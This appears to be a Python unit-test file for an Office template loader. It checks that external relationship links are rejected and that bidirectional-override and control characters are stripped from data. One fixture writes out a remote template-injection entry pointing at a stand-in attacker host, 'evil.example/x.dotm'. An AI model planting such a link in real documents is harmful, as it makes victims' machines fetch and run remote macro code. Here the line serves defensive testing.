"""Templates that hide what they hold, and data that try to look like something else in a document."""

from __future__ import annotations

import io
import zipfile

import pytest

from appliance.kit.errors import ApplianceError
from services.sgr.rendering.office_renderer import load_template
from services.sgr.templates.values import clean
from tests.unit.sgr.office_files import paragraphs, zipped

_SPACE = "http://schemas.openxmlformats.org"
_ROW = f'<Relationship Id="rId9" Type="{_SPACE}/officeDocument/2006/relationships/%s" Target="http://evil.example/x.dotm" TargetMode="External"/>'
_RELS = f'<Relationships xmlns="{_SPACE}/package/2006/relationships">{_ROW}</Relationships>'
_SETTINGS = f'<w:settings xmlns:w="{_SPACE}/wordprocessingml/2006/main"/>'


def template(**parts: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(paragraphs("{{ title }}"))) as archive:
        files: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**files, **{name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}})


@pytest.mark.parametrize("rels", ["rels", "RELS", "Rels"])
@pytest.mark.parametrize("kind", ["attachedTemplate", "image"])
def test_an_external_link_is_found_under_every_spelling_of_its_part(rels: str, kind: str) -> None:
    """Office looks for parts without regard to case; ``settings.xml.RELS`` was taken for a part of no meaning."""
    content = template(**{"word__settings_dot_xml": _SETTINGS, f"word/_rels/settings.xml.{rels}": _RELS % kind})
    with pytest.raises(ApplianceError) as caught:
        load_template(content)
    assert caught.value.code == "template_invalid"


def test_what_these_templates_are_made_from_is_one() -> None:
    assert load_template(template(word__settings_dot_xml=_SETTINGS)).readings()


@pytest.mark.parametrize("sign", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"])
def test_data_cannot_turn_the_reading_order_of_a_document(sign: str) -> None:
    assert clean(f"pay 100{sign} to Anna\x00\ufffe") == "pay 100 to Anna"
